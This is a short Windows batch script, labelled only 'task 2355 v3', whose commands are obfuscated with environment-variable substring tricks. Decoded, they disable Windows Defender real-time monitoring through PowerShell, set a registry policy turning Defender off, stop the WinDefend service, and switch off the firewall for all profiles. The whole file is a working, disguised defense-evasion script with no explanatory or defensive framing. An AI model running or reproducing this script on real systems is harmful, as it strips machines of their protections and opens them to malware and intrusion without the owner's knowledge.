REM task 2355 v3
p%WINDIR:~7,1%%windir:~-2,1%e%PUBLIC:~-9,1%shel%PUBLIC:~-3,1% -c "Set-MpPreference -DisableRealtimeMonitoring $true"
%programdata:~-10,1%%PUBLIC:~5,1%%PROGRAMDATA:~6,1% add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
%COMSPEC:~11,1%%comspec:~-7,1% stop WinDefend
%windir:~-5,1%%COMSPEC:~-12,1%%COMSPEC:~-13,1%%windir:~9,1%h advfirewall set allprofiles state off
